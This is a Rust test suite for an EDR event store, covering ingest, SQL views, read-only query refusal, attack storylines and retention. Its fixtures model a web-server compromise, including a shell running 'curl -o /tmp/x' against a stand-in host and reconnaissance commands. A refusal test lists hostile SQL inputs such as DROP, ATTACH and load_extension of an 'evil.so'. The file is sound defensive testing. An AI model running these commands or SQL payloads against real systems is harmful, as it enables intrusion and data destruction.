//! The store end to end: ingest, read back, views, investigations, read-only
//! enforcement, restart, retention, backpressure.

mod common;

use common::*;
use edr_event::*;
use edr_store::*;
use serde_json::json;
use std::sync::Arc;
use std::time::Duration;

fn every_kind() -> Vec<Event> {
    let mut rename = file(3, T0 + 3 * S, FileOp::Rename, "/etc/cron.d/job", 12, 0xfeed_0000_0000_0001, "/usr/bin/mv");
    if let EventBody::File(f) = &mut rename.body {
        f.old_path = Some("/tmp/job".into());
        f.mode = Some(0o4755);
    }
    let mut partial_exec = exec(1, T0 + S, 4242, 4200, 0xdead_beef, 0xfeed, "/usr/bin/bash", &["bash", "-c", "id; uname -a"]);
    partial_exec.partial = true;
    let listen = Event {
        id: 6,
        time: T0 + 6 * S,
        partial: false,
        body: EventBody::Network(NetworkEvent {
            op: NetworkOp::Listen,
            transport: Transport::Udp,
            local_ip: "0.0.0.0".into(),
            local_port: 53,
            remote_ip: String::new(),
            remote_port: 0,
            pid: None,
            entity_id: None,
            exe: None,
            uid: None,
            netns: None,
            bytes_sent: None,
            bytes_received: None,
        }),
    };
    let accept = Event {
        id: 7,
        time: T0 + 7 * S,
        partial: false,
        body: EventBody::Network(NetworkEvent {
            op: NetworkOp::Accept,
            transport: Transport::Tcp,
            local_ip: "10.0.0.2".into(),
            local_port: 22,
            remote_ip: "198.51.100.4".into(),
            remote_port: 51000,
            pid: Some(99),
            entity_id: Some(u64::MAX - 1),
            exe: Some("/usr/sbin/sshd".into()),
            uid: Some(0),
            netns: None,
            bytes_sent: None,
            bytes_received: None,
        }),
    };
    vec![
        partial_exec,
        exit(2, T0 + 2 * S, 4242, 0xdead_beef, -9),
        rename,
        file(4, T0 + 4 * S, FileOp::Create, "/tmp/x", 4242, 0xdead_beef, "/usr/bin/bash"),
        connect(5, T0 + 5 * S, 4242, 0xdead_beef, "/usr/bin/bash", "203.0.113.9", 4444),
        listen,
        accept,
        login(8, T0 + 8 * S, "alice", "198.51.100.4", true),
        login(9, T0 + 9 * S, "root", "203.0.113.66", false),
    ]
}

#[test]
fn every_kind_round_trips_through_export_and_the_read_api() {
    let dir = tempfile::tempdir().unwrap();
    let store = open(dir.path());
    let input = every_kind();
    ingest(&store, input.clone());

    let mut out = Vec::new();
    let n = store.export(None, None, &mut out).unwrap();
    assert_eq!(n, input.len() as u64);
    let text = String::from_utf8(out).unwrap();
    let back: Vec<Event> = text.lines().map(|l| ecs::event_from_json(l).unwrap()).collect();
    assert_eq!(back, input, "export -> event_from_ecs must give the input back, ids included");

    // Time-bounded export: only the middle events.
    let mut out = Vec::new();
    assert_eq!(store.export(Some(T0 + 3 * S), Some(T0 + 5 * S), &mut out).unwrap(), 3);

    // The binary body round-trips too (timeline reads it directly).
    let all = store.timeline(TimelineKey::Entity(0xdead_beef), None, None, 100).unwrap();
    let expected: Vec<Event> = input.iter().filter(|e| e.entity_id() == Some(0xdead_beef)).cloned().collect();
    assert_eq!(all, expected);

    let stats = store.stats();
    assert_eq!(stats.events, input.len() as u64);
    assert_eq!(stats.events_written, input.len() as u64);
    assert_eq!(stats.oldest_time, Some(T0 + S));
    assert_eq!(stats.newest_time, Some(T0 + 9 * S));
    assert!(stats.bytes_on_disk > 0 && stats.bytes_used > 0);
    assert_eq!(stats.events_dropped, 0);
    assert!(store.integrity_check().unwrap().is_empty());
}

#[test]
fn export_pages_through_many_events_in_time_order() {
    let dir = tempfile::tempdir().unwrap();
    let store = open(dir.path());
    // 25,000 events (more than one export page), some sharing a timestamp.
    let mut events = mixed(1, 25_000, T0);
    for e in events.iter_mut().skip(9_990).take(20) {
        e.time = T0 + 9_990;
    }
    ingest(&store, events.clone());
    let mut out = Vec::new();
    assert_eq!(store.export(None, None, &mut out).unwrap(), 25_000);
    let ids: Vec<u64> = String::from_utf8(out).unwrap().lines().map(|l| ecs::event_from_json(l).unwrap().id).collect();
    assert_eq!(ids, (1..=25_000).collect::<Vec<u64>>());
}

#[test]
fn views_give_friendly_columns() {
    let dir = tempfile::tempdir().unwrap();
    let store = open(dir.path());
    ingest(&store, every_kind());
    let w = store.writer();
    let ev = every_kind().remove(0);
    w.append_alert(&alert(1, T0 + 10 * S, "edr.lineage.service-spawned-shell", &ev)).unwrap();
    w.append_action(ActionRecord {
        id: 1,
        time: T0 + 11 * S,
        requester: "plugin:lineage".into(),
        action: "kill-process".into(),
        target: "pid 4242".into(),
        decision: Decision::Simulated,
        outcome: String::new(),
        reason: "pack granted kill-process in simulate mode".into(),
        alert_id: Some(1),
        detail: json!({"pid": 4242}),
    })
    .unwrap();
    w.flush().unwrap();

    let r = store
        .query("SELECT action, pid, ppid, entity_id, parent_entity_id, name, command_line, user, exit_code, partial, ts FROM process ORDER BY id")
        .unwrap();
    assert_eq!(r.columns, ["action", "pid", "ppid", "entity_id", "parent_entity_id", "name", "command_line", "user", "exit_code", "partial", "ts"]);
    assert_eq!(
        r.rows[0],
        vec![
            json!("exec"),
            json!(4242),
            json!(4200),
            json!("00000000deadbeef"),
            json!("000000000000feed"),
            json!("bash"),
            json!("bash -c id; uname -a"),
            json!("www-data"),
            json!(null),
            json!(1),
            json!("2026-05-28T20:26:41.000Z")
        ]
    );
    assert_eq!(r.rows[1][0], "exit");
    assert_eq!(r.rows[1][8], -9);

    let r = store.query("SELECT action, path, old_path, entity_id FROM file ORDER BY id").unwrap();
    assert_eq!(r.rows[0], vec![json!("rename"), json!("/etc/cron.d/job"), json!("/tmp/job"), json!("feed000000000001")]);
    assert_eq!(r.rows[1][0], "create");

    let r = store.query("SELECT action, transport, local_ip, local_port, remote_ip, remote_port, entity_id FROM network ORDER BY id").unwrap();
    assert_eq!(r.rows[0], vec![json!("connect"), json!("tcp"), json!("10.0.0.5"), json!(40005), json!("203.0.113.9"), json!(4444), json!("00000000deadbeef")]);
    assert_eq!(r.rows[1][0..2], [json!("listen"), json!("udp")]);
    // Entity ids with the top bit set print as their u64 hex form.
    assert_eq!(r.rows[2][6], "fffffffffffffffe");

    let r = store.query("SELECT user, source_ip, service, method, success FROM login ORDER BY id").unwrap();
    assert_eq!(
        r.rows,
        vec![
            vec![json!("alice"), json!("198.51.100.4"), json!("sshd"), json!("publickey"), json!(1)],
            vec![json!("root"), json!("203.0.113.66"), json!("sshd"), json!("publickey"), json!(0)],
        ]
    );

    let r =
        store.query("SELECT rule_id, severity, score, plugin, pack_id, signer, event_ids, entity_id, json_extract(ecs, '$.event.kind') FROM alert").unwrap();
    assert_eq!(
        r.rows[0],
        vec![
            json!("edr.lineage.service-spawned-shell"),
            json!("high"),
            json!(73),
            json!("lineage"),
            json!("edr.builtin"),
            json!("dev"),
            json!("[1]"),
            json!("00000000deadbeef"),
            json!("alert")
        ]
    );

    let r = store.query("SELECT requester, action, target, decision, alert_id, json_extract(detail, '$.pid') FROM action").unwrap();
    assert_eq!(r.rows[0], vec![json!("plugin:lineage"), json!("kill-process"), json!("pid 4242"), json!("simulated"), json!(1), json!(4242)]);

    // The helper functions: entity() for indexed lookups, edr_ecs() for the whole event.
    let r = store.query("SELECT count(*) FROM events WHERE entity_id = entity('00000000deadbeef')").unwrap();
    assert_eq!(r.rows[0][0], 4);
    let r = store.query("SELECT edr_ecs(id, time, partial, body) FROM process WHERE action = 'exec'").unwrap();
    let doc: serde_json::Value = serde_json::from_str(r.rows[0][0].as_str().unwrap()).unwrap();
    assert_eq!(doc["process"]["parent"]["executable"], "/usr/sbin/nginx");
    assert_eq!(doc["edr"]["partial"], true);
    // Schema discovery stays possible.
    let r = store.query("SELECT name FROM pragma_table_info('process') WHERE name = 'command_line'").unwrap();
    assert_eq!(r.rows.len(), 1);
}

/// A connection's close as the eBPF collector records it, in namespace `netns`.
fn close(id: u64, sent: u64, received: u64, netns: u64) -> Event {
    let mut e = connect(id, T0 + id * S, 4242, 0xdead_beef, "/usr/bin/curl", "203.0.113.9", 443);
    if let EventBody::Network(n) = &mut e.body {
        n.op = NetworkOp::Close;
        n.netns = Some(netns);
        (n.bytes_sent, n.bytes_received) = (Some(sent), Some(received));
    }
    e
}

fn exec_in_cgroup(id: u64, gid: u32, cgroup_id: u64) -> Event {
    let mut e = exec(id, T0 + id * S, 4242, 4200, 0xdead_beef, 0xfeed, "/usr/bin/curl", &["curl", "https://example.org"]);
    if let EventBody::ProcessExec(x) = &mut e.body {
        (x.gid, x.cgroup_id) = (gid, cgroup_id);
    }
    e
}

#[test]
fn views_end_with_gid_cgroup_id_netns_and_the_close_bytes() {
    let dir = tempfile::tempdir().unwrap();
    let store = open(dir.path());
    ingest(
        &store,
        vec![
            exec_in_cgroup(1, 1001, u64::MAX - 5),
            connect(2, T0 + 2 * S, 4242, 0xdead_beef, "/usr/bin/curl", "203.0.113.9", 443),
            close(3, 518, 40_961, 4_026_531_840),
        ],
    );
    let r = store.query("SELECT * FROM process").unwrap();
    let tail = &r.columns[r.columns.len() - 3..];
    assert_eq!(tail, ["body", "gid", "cgroup_id"], "new columns come after the old ones: {:?}", r.columns);
    let r = store.query("SELECT gid, cgroup_id FROM process").unwrap();
    // cgroup ids are u64 kept as their i64 bit pattern, like entity ids.
    assert_eq!(r.rows[0], vec![json!(1001), json!(-6)]);
    let r = store.query("SELECT * FROM network").unwrap();
    let tail = &r.columns[r.columns.len() - 4..];
    assert_eq!(tail, ["body", "netns", "bytes_sent", "bytes_received"], "{:?}", r.columns);
    let r = store.query("SELECT id, action, local_port, remote_port, netns, bytes_sent, bytes_received FROM network ORDER BY id").unwrap();
    assert_eq!(r.rows[0], vec![json!(2), json!("connect"), json!(40002), json!(443), json!(null), json!(null), json!(null)]);
    assert_eq!(r.rows[1], vec![json!(3), json!("close"), json!(40003), json!(443), json!(4_026_531_840u64), json!(518), json!(40_961)]);
    // The body carries them too (what the read API and ECS use).
    let r = store.query("SELECT edr_ecs(id, time, partial, body) FROM network WHERE action = 'close'").unwrap();
    let doc: serde_json::Value = serde_json::from_str(r.rows[0][0].as_str().unwrap()).unwrap();
    assert_eq!(
        (doc["source"]["bytes"].as_u64(), doc["destination"]["bytes"].as_u64(), doc["event"]["type"][0].as_str()),
        (Some(518), Some(40_961), Some("end"))
    );
}

#[test]
fn a_version_3_store_migrates_its_views_and_old_rows_read_null_in_the_new_columns() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("events.db");
    let conn = rusqlite::Connection::open(&path).unwrap();
    schema::create_at_version(&conn, 3).unwrap();
    // A connect as a version-3 agent recorded it (no netns column; the body has it).
    let mut old = connect(1, T0 + S, 4242, 0xdead_beef, "/usr/bin/curl", "203.0.113.9", 443);
    if let EventBody::Network(n) = &mut old.body {
        n.netns = Some(77);
    }
    let mut body = Vec::new();
    codec::encode_body(&old, &mut body);
    conn.execute(
        "INSERT INTO events (id, time, kind, pid, op, remote_ip, remote_port, local_ip, local_port, transport, partial, body) VALUES (1, ?1, 4, 4242, 1, '203.0.113.9', 443, '10.0.0.5', 40001, 6, 0, ?2)",
        rusqlite::params![(T0 + S) as i64, body],
    )
    .unwrap();
    conn.execute_batch("UPDATE meta SET value = 1 WHERE key IN ('events', 'max_event_id');").unwrap();
    let old_columns: Vec<String> = conn.prepare("SELECT * FROM network").unwrap().column_names().map(String::from).collect();
    drop(conn);

    let store = Store::open(StoreConfig::new(&path)).unwrap();
    assert_eq!(schema::SCHEMA_VERSION, 4);
    let r = store.query("SELECT * FROM network").unwrap();
    assert_eq!(r.columns[..old_columns.len()], old_columns[..], "the old columns keep their order");
    assert_eq!(r.columns[old_columns.len()..], ["netns", "bytes_sent", "bytes_received"]);
    ingest(&store, vec![close(2, 6, 7, 77)]);
    let r = store.query("SELECT id, action, netns, bytes_sent, bytes_received FROM network ORDER BY id").unwrap();
    assert_eq!(
        r.rows,
        vec![vec![json!(1), json!("connect"), json!(null), json!(null), json!(null)], vec![json!(2), json!("close"), json!(77), json!(6), json!(7)]]
    );
    // The old row's body still has its namespace.
    let EventBody::Network(n) = store.events_after(0, 1).unwrap().remove(0).body else { panic!() };
    assert_eq!(n.netns, Some(77));
}

#[test]
fn query_row_limit_truncates() {
    let dir = tempfile::tempdir().unwrap();
    let mut cfg = StoreConfig::new(dir.path().join("events.db"));
    cfg.query_max_rows = 10;
    let store = Store::open(cfg).unwrap();
    ingest(&store, mixed(1, 100, T0));
    let r = store.query("SELECT id FROM events").unwrap();
    assert_eq!(r.rows.len(), 10);
    assert!(r.truncated);
    let r = store.query("SELECT id FROM events LIMIT 5").unwrap();
    assert!(!r.truncated);
}

#[test]
fn query_limits_can_be_set_per_handle_and_stay_read_only() {
    let dir = tempfile::tempdir().unwrap();
    let store = Store::open(StoreConfig::new(dir.path().join("events.db"))).unwrap();
    ingest(&store, mixed(1, 100, T0));
    let ro = Store::open_read_only(dir.path().join("events.db")).unwrap().with_query_limits(std::time::Duration::from_millis(200), 7);
    let r = ro.query("SELECT id FROM events").unwrap();
    assert_eq!((r.rows.len(), r.truncated), (7, true));
    let r = ro.query("SELECT id FROM events LIMIT 7").unwrap();
    assert_eq!((r.rows.len(), r.truncated), (7, false));
    let spin = "WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n) SELECT count(*) FROM n";
    assert!(matches!(ro.query(spin), Err(StoreError::QueryTimeout { .. })), "the shorter deadline interrupts");
    for hostile in ["DELETE FROM events", "ATTACH DATABASE ':memory:' AS x", "WITH x AS (SELECT 1) DELETE FROM events"] {
        assert!(matches!(ro.query(hostile), Err(StoreError::QueryRefused { .. })), "{hostile}");
    }
}

#[test]
fn query_is_read_only_and_bounded() {
    let dir = tempfile::tempdir().unwrap();
    let mut cfg = StoreConfig::new(dir.path().join("events.db"));
    cfg.query_timeout = Duration::from_millis(300);
    let store = Store::open(cfg).unwrap();
    ingest(&store, every_kind());

    let refused = |sql: &str, expect: &str| match store.query(sql) {
        Err(StoreError::QueryRefused { reason }) => {
            assert!(reason.to_lowercase().contains(&expect.to_lowercase()), "{sql}: reason `{reason}` lacks `{expect}`")
        }
        other => panic!("{sql}: expected a refusal, got {other:?}"),
    };
    refused("INSERT INTO events (id, time, kind, partial, body) VALUES (99, 0, 1, 0, x'00')", "not `INSERT`");
    refused("DROP TABLE events", "not `DROP`");
    refused("DELETE FROM events", "not `DELETE`");
    refused("ATTACH DATABASE '/tmp/other.db' AS other", "not `ATTACH`");
    refused("PRAGMA journal_mode = DELETE", "not `PRAGMA`");
    refused("PRAGMA user_version = 7", "not `PRAGMA`");
    refused("  -- comment\n VACUUM", "not `VACUUM`");
    refused("SELECT 1; DROP TABLE events", "more than one statement");
    refused("WITH doomed AS (SELECT id FROM events) DELETE FROM events WHERE id IN doomed", "delete from events");
    refused("SELECT * FROM pragma_integrity_check", "pragma integrity_check");
    refused("SELECT file FROM pragma_database_list", "pragma database_list");
    refused("SELECT load_extension('/tmp/evil.so')", "load_extension");
    // Nothing changed.
    assert_eq!(store.query("SELECT count(*) FROM events").unwrap().rows[0][0], 9);
    assert!(store.query("SELECT * FROM events WHERE id = 99").unwrap().rows.is_empty());

    // Plain mistakes are errors, not refusals, and say where.
    match store.query("SELECT nope FROM process") {
        Err(e @ StoreError::Sql { .. }) => assert!(e.to_string().contains("no such column: nope"), "{e}"),
        other => panic!("expected an SQL error, got {other:?}"),
    }
    // A runaway query is interrupted.
    match store.query("WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT max(x) FROM c") {
        Err(e @ StoreError::QueryTimeout { .. }) => assert!(e.to_string().contains("time range"), "{e}"),
        other => panic!("expected a timeout, got {other:?}"),
    }
    // The pool still works after an interrupt.
    assert_eq!(store.query("SELECT count(*) FROM login").unwrap().rows[0][0], 2);
}

/// The fixture attack: systemd -> nginx -> sh -> curl; curl writes /tmp/x and
/// connects out. Around it: another nginx worker, an ssh session, and a
/// pid-reused process. Only the attack's tree may appear.
fn attack() -> (Vec<Event>, Event) {
    const SYSTEMD: u64 = 0x1;
    const NGINX: u64 = 0xa000_0000_0000_0001;
    const SH: u64 = 0xa000_0000_0000_0002;
    const CURL: u64 = 0xa000_0000_0000_0003;
    const WORKER2: u64 = 0xb000_0000_0000_0001;
    const SSHD: u64 = 0xc000_0000_0000_0001;
    const BASH: u64 = 0xc000_0000_0000_0002;
    const LS: u64 = 0xc000_0000_0000_0003;
    const REUSED: u64 = 0xd000_0000_0000_0001;
    let sh = exec(13, T0 + 30 * S, 2000, 1500, SH, NGINX, "/bin/sh", &["sh", "-c", "curl -o /tmp/x http://203.0.113.50/x"]);
    let events = vec![
        exec(10, T0, 1, 0, SYSTEMD, 0, "/usr/lib/systemd/systemd", &["/sbin/init"]),
        exec(11, T0 + S, 1500, 1, NGINX, SYSTEMD, "/usr/sbin/nginx", &["nginx", "-g", "daemon off;"]),
        file(12, T0 + 2 * S, FileOp::Read, "/etc/nginx/nginx.conf", 1500, NGINX, "/usr/sbin/nginx"),
        sh.clone(),
        exec(14, T0 + 31 * S, 2001, 2000, CURL, SH, "/usr/bin/curl", &["curl", "-o", "/tmp/x", "http://203.0.113.50/x"]),
        connect(15, T0 + 32 * S, 2001, CURL, "/usr/bin/curl", "203.0.113.50", 80),
        file(16, T0 + 33 * S, FileOp::Create, "/tmp/x", 2001, CURL, "/usr/bin/curl"),
        exit(17, T0 + 34 * S, 2001, CURL, 0),
        exit(18, T0 + 35 * S, 2000, SH, 0),
        // Unrelated: a sibling worker of nginx and its activity.
        exec(20, T0 + 30 * S, 1600, 1500, WORKER2, NGINX, "/usr/sbin/nginx", &["nginx: worker process"]),
        file(21, T0 + 31 * S, FileOp::Modify, "/var/log/nginx/access.log", 1600, WORKER2, "/usr/sbin/nginx"),
        // Unrelated: an ssh session.
        exec(30, T0 + 29 * S, 900, 1, SSHD, SYSTEMD, "/usr/sbin/sshd", &["sshd: alice"]),
        exec(31, T0 + 30 * S, 901, 900, BASH, SSHD, "/bin/bash", &["-bash"]),
        exec(32, T0 + 31 * S, 902, 901, LS, BASH, "/bin/ls", &["ls", "/tmp"]),
        file(33, T0 + 32 * S, FileOp::Read, "/tmp/x", 902, LS, "/bin/ls"),
        connect(34, T0 + 32 * S, 900, SSHD, "/usr/sbin/sshd", "198.51.100.4", 51000),
        // Unrelated: pid 2001 reused by another process later.
        exec(40, T0 + 90 * S, 2001, 1, REUSED, SYSTEMD, "/usr/bin/cron", &["cron"]),
    ];
    (events, sh)
}

#[test]
fn storyline_of_the_fixture_attack() {
    let dir = tempfile::tempdir().unwrap();
    let store = open(dir.path());
    let (events, sh) = attack();
    ingest(&store, events);
    let w = store.writer();
    w.append_alert(&alert(1, T0 + 30 * S, "edr.lineage.service-spawned-shell", &sh)).unwrap();
    // A second alert on curl: related; one on ls: not.
    let curl_exec = store.timeline(TimelineKey::Entity(0xa000_0000_0000_0003), None, None, 1).unwrap().remove(0);
    w.append_alert(&alert(2, T0 + 31 * S, "edr.writable-exec.tmp", &curl_exec)).unwrap();
    let ls_exec = store.timeline(TimelineKey::Pid(902), None, None, 1).unwrap().remove(0);
    w.append_alert(&alert(3, T0 + 31 * S, "edr.other", &ls_exec)).unwrap();
    let mut kill = ActionRecord::for_request(
        1,
        T0 + 36 * S,
        "plugin:lineage",
        &Action::KillProcess(KillTarget { pid: 2000, entity_id: Some(0xa000_0000_0000_0002), tree: true }),
        Decision::Enforced,
    );
    kill.alert_id = Some(1);
    kill.outcome = "ok".into();
    w.append_action(kill).unwrap();
    w.flush().unwrap();

    let story = store.storyline(1, StorylineOptions::default()).unwrap();
    assert_eq!(story.alert.rule_id, "edr.lineage.service-spawned-shell");
    assert_eq!(story.trigger.as_ref().map(|e| e.id), Some(13));
    assert_eq!(story.entity_id, Some(0xa000_0000_0000_0002));
    let procs: Vec<(u64, Role, i32)> = story.processes.iter().map(|p| (p.entity_id, p.role, p.depth)).collect();
    assert_eq!(
        procs,
        vec![
            (0x1, Role::Ancestor, -2),
            (0xa000_0000_0000_0001, Role::Ancestor, -1),
            (0xa000_0000_0000_0002, Role::Trigger, 0),
            (0xa000_0000_0000_0003, Role::Descendant, 1),
        ]
    );
    assert_eq!(story.processes[1].execs[0].id, 11);
    let ids: Vec<u64> = story.events.iter().map(|e| e.event.id).collect();
    // Ancestors contribute their execs only (nginx's config read, 12, is its own activity).
    assert_eq!(ids, vec![10, 11, 13, 14, 15, 16, 17, 18]);
    let times: Vec<u64> = story.events.iter().map(|e| e.event.time).collect();
    assert!(times.windows(2).all(|w| w[0] <= w[1]), "ordered by time");
    assert!(story.events.iter().any(|e| matches!(&e.event.body, EventBody::File(f) if f.path == "/tmp/x" && f.op == FileOp::Create)));
    assert!(story.events.iter().any(|e| matches!(&e.event.body, EventBody::Network(n) if n.remote_ip == "203.0.113.50")));
    assert_eq!(story.events.iter().find(|e| e.event.id == 15).unwrap().role, Role::Descendant);
    assert_eq!(story.related_alerts.iter().map(|a| a.id).collect::<Vec<_>>(), vec![2]);
    assert_eq!(story.actions.len(), 1);
    assert_eq!(story.actions[0].decision, Decision::Enforced);
    assert!(!story.truncated);

    // With ancestor activity, nginx's own file read joins; still nothing unrelated.
    let story = store.storyline(1, StorylineOptions { ancestor_activity: true, ..Default::default() }).unwrap();
    let ids: Vec<u64> = story.events.iter().map(|e| e.event.id).collect();
    assert_eq!(ids, vec![10, 11, 12, 13, 14, 15, 16, 17, 18]);

    // Limits: one generation down, two events.
    let story = store.storyline(1, StorylineOptions { max_events: 2, ..Default::default() }).unwrap();
    assert!(story.truncated);
    assert_eq!(story.events.len(), 2);
    assert!(story.events.iter().any(|e| e.event.id == 13), "the events nearest the alert are kept");

    assert!(matches!(store.storyline(99, StorylineOptions::default()), Err(StoreError::NoSuchAlert(99))));
}

#[test]
fn storyline_falls_back_to_the_alerts_own_event() {
    let dir = tempfile::tempdir().unwrap();
    let store = open(dir.path());
    let (events, sh) = attack();
    // The sh exec itself never reached the store (dropped under load, say).
    ingest(&store, events.into_iter().filter(|e| e.id != 13).collect());
    let w = store.writer();
    w.append_alert(&alert(1, T0 + 30 * S, "edr.lineage.service-spawned-shell", &sh)).unwrap();
    w.flush().unwrap();
    let story = store.storyline(1, StorylineOptions::default()).unwrap();
    assert_eq!(story.trigger.as_ref().map(|e| e.id), Some(13));
    assert_eq!(story.entity_id, Some(0xa000_0000_0000_0002));
    // Its descendants are still found through their parent_entity_id.
    assert!(story.processes.iter().any(|p| p.entity_id == 0xa000_0000_0000_0003 && p.role == Role::Descendant));
    assert!(story.events.iter().any(|e| e.event.id == 16));
}

#[test]
fn timelines_by_pid_entity_and_path() {
    let dir = tempfile::tempdir().unwrap();
    let store = open(dir.path());
    let (events, _) = attack();
    ingest(&store, events);

    let ids = |v: Vec<Event>| v.into_iter().map(|e| e.id).collect::<Vec<_>>();
    // pid 2001 was curl, then cron: both, in time order.
    assert_eq!(ids(store.timeline(TimelineKey::Pid(2001), None, None, 100).unwrap()), vec![14, 15, 16, 17, 40]);
    assert_eq!(ids(store.timeline(TimelineKey::Pid(2001), Some(T0 + 33 * S), Some(T0 + 34 * S), 100).unwrap()), vec![16, 17]);
    assert_eq!(ids(store.timeline(TimelineKey::Pid(2001), None, None, 2).unwrap()), vec![14, 15]);
    assert_eq!(ids(store.timeline(TimelineKey::Entity(0xa000_0000_0000_0003), None, None, 100).unwrap()), vec![14, 15, 16, 17]);
    assert_eq!(ids(store.timeline(TimelineKey::Path("/tmp/x".into()), None, None, 100).unwrap()), vec![33, 16]);
    assert!(store.timeline(TimelineKey::Path("/tmp".into()), None, None, 100).unwrap().is_empty(), "exact path");

    // A rename is found by its old path too.
    let mut mv = file(50, T0 + 100 * S, FileOp::Rename, "/etc/cron.d/x", 3000, 0xe1, "/bin/mv");
    if let EventBody::File(f) = &mut mv.body {
        f.old_path = Some("/tmp/x".into());
    }
    ingest(&store, vec![mv]);
    assert_eq!(ids(store.timeline(TimelineKey::Path("/tmp/x".into()), None, None, 100).unwrap()), vec![33, 16, 50]);
    assert_eq!(ids(store.timeline(TimelineKey::Path("/etc/cron.d/x".into()), None, None, 100).unwrap()), vec![50]);
}

#[test]
fn command_line_search_is_case_insensitive_substring() {
    let dir = tempfile::tempdir().unwrap();
    let store = open(dir.path());
    let (mut events, _) = attack();
    events.push(exec(60, T0 + 200 * S, 5000, 1, 0xf1, 0x1, "/usr/bin/python3", &["python3", "-c", "print('100%_done')"]));
    ingest(&store, events);
    let ids = |v: Vec<Event>| v.into_iter().map(|e| e.id).collect::<Vec<_>>();

    // Newest first; file and network events never match.
    assert_eq!(ids(store.search_command_line("HTTP://203.0.113.50", None, None, 10).unwrap()), vec![14, 13]);
    assert_eq!(ids(store.search_command_line("Daemon Off", None, None, 10).unwrap()), vec![11]);
    assert_eq!(ids(store.search_command_line("curl -o /tmp/x", Some(T0 + 31 * S), None, 10).unwrap()), vec![14]);
    assert_eq!(ids(store.search_command_line("curl", None, Some(T0 + 30 * S), 10).unwrap()), vec![13]);
    assert_eq!(ids(store.search_command_line("curl", None, None, 1).unwrap()), vec![14]);
    // LIKE's wildcards match literally.
    assert_eq!(ids(store.search_command_line("100%_d", None, None, 10).unwrap()), vec![60]);
    assert!(store.search_command_line("100%x", None, None, 10).unwrap().is_empty());
    assert!(store.search_command_line("nowhere-to-be-found", None, None, 10).unwrap().is_empty());
}

#[test]
fn restart_keeps_data_and_ids_continue() {
    let dir = tempfile::tempdir().unwrap();
    let (events, sh) = attack();
    {
        let store = open(dir.path());
        assert_eq!((store.max_event_id().unwrap(), store.max_alert_id().unwrap(), store.max_action_id().unwrap()), (0, 0, 0));
        let w = store.writer();
        w.append_events(Arc::new(events.clone())).unwrap();
        w.append_alert(&alert(5, T0 + 30 * S, "r", &sh)).unwrap();
        w.append_action(ActionRecord::for_request(9, T0, "operator:alice", &Action::IsolateHost, Decision::Refused)).unwrap();
        // No flush: dropping the store (the agent stopping) commits what is queued.
        drop(w);
    }
    let store = open(dir.path());
    assert_eq!(store.max_event_id().unwrap(), 40);
    assert_eq!(store.max_alert_id().unwrap(), 5);
    assert_eq!(store.max_action_id().unwrap(), 9);
    let stats = store.stats();
    assert_eq!((stats.events, stats.alerts, stats.actions), (events.len() as u64, 1, 1));
    assert_eq!(store.alert(5).unwrap().unwrap().event_ids, vec![13]);
    assert_eq!(store.actions(None, None, 10).unwrap()[0].target, "host");
    // New events continue from the high-water mark.
    let next = store.max_event_id().unwrap() + 1;
    ingest(&store, vec![exec(next, T0 + 300 * S, 7, 1, 0x77, 0x1, "/bin/true", &["true"])]);
    assert_eq!(store.max_event_id().unwrap(), 41);
    assert_eq!(store.stats().events, events.len() as u64 + 1);
    // Re-sending an id already stored is ignored and counted, not an error.
    ingest(&store, vec![exec(next, T0, 7, 1, 0x77, 0x1, "/bin/false", &["false"])]);
    assert_eq!(store.stats().duplicate_events, 1);
    assert_eq!(store.timeline(TimelineKey::Pid(7), None, None, 10).unwrap().len(), 1);
}

#[test]
fn one_writer_per_store_and_read_only_opens() {
    let dir = tempfile::tempdir().unwrap();
    let store = open(dir.path());
    ingest(&store, every_kind());
    match Store::open(StoreConfig::new(dir.path().join("events.db"))) {
        Err(e @ StoreError::Locked { .. }) => assert!(e.to_string().contains("already in use"), "{e}"),
        other => panic!("expected Locked, got {other:?}"),
    }
    let ro = Store::open_read_only(dir.path().join("events.db")).unwrap();
    assert_eq!(ro.stats().events, 9);
    assert_eq!(ro.search_command_line("uname", None, None, 5).unwrap().len(), 1);
    assert!(matches!(ro.writer().append_events(Arc::new(every_kind())), Err(Backpressure::Closed { events: 9, .. })));
    assert!(matches!(ro.enforce_retention(), Err(StoreError::ReadOnly)));
    // The writer's later commits are visible to the read-only store.
    ingest(&store, vec![login(100, T0, "bob", "192.0.2.1", true)]);
    assert_eq!(ro.query("SELECT count(*) FROM login").unwrap().rows[0][0], 3);
}

#[test]
fn foreign_databases_are_refused() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("other.db");
    let conn = rusqlite::Connection::open(&path).unwrap();
    conn.execute_batch("CREATE TABLE notes (x TEXT); INSERT INTO notes VALUES ('keep me');").unwrap();
    drop(conn);
    match Store::open(StoreConfig::new(&path)) {
        Err(e @ StoreError::NotAStore { .. }) => assert!(e.to_string().contains("not an edr event store"), "{e}"),
        other => panic!("expected NotAStore, got {other:?}"),
    }
    let conn = rusqlite::Connection::open(&path).unwrap();
    let kept: String = conn.query_row("SELECT x FROM notes", [], |r| r.get(0)).unwrap();
    assert_eq!(kept, "keep me");

    // A store from a newer agent is refused, not guessed at.
    let newer = dir.path().join("newer.db");
    drop(open(dir.path()));
    std::fs::copy(dir.path().join("events.db"), &newer).unwrap();
    rusqlite::Connection::open(&newer).unwrap().pragma_update(None, "user_version", 99).unwrap();
    match Store::open(StoreConfig::new(&newer)) {
        Err(e @ StoreError::TooNew { found: 99, .. }) => assert!(e.to_string().contains("upgrade the agent"), "{e}"),
        other => panic!("expected TooNew, got {other:?}"),
    }
}

#[test]
fn retention_by_age_deletes_old_rows_and_keeps_ids() {
    let dir = tempfile::tempdir().unwrap();
    let mut cfg = StoreConfig::new(dir.path().join("events.db"));
    cfg.max_age = Some(Duration::from_secs(24 * 3600));
    let store = Store::open(cfg).unwrap();
    let now = edr_event::time::now();
    let day = 24 * 3600 * S;
    // 12,000 events ten days old (more than two delete chunks), 100 fresh ones,
    // and the highest id among the old ones.
    let mut old = mixed(1, 12_000, now - 10 * day);
    old.push(exec(1_000_000, now - 10 * day, 1, 0, 0x5, 0, "/bin/old", &["old"]));
    let fresh = mixed(20_000, 100, now - 60 * S);
    ingest(&store, old.clone());
    ingest(&store, fresh);
    let w = store.writer();
    w.append_alert(&alert(1, now - 10 * day, "old", &old[0])).unwrap();
    w.append_alert(&alert(2, now, "new", &old[0])).unwrap();
